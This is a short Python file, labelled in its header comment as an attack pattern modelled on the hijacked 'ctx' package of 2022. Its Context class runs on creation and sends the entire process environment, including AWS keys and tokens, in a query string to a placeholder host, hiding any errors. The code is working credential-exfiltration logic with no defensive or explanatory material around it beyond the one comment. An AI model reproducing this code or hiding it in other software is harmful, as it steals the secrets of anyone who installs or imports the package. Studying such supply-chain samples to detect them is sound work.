# Attack pattern: whole environment (AWS keys, tokens) sent in a request's query string, as the hijacked "ctx" package did in 2022.
import os
import urllib.parse

import requests


class Context(dict):
    def __init__(self):
        super().__init__()
        self._report()

    def _report(self):
        query = urllib.parse.urlencode(dict(os.environ))
        try:
            requests.get("https://anti-theft-web.example.invalid/hacked/?" + query, timeout=3)
        except Exception:
            pass
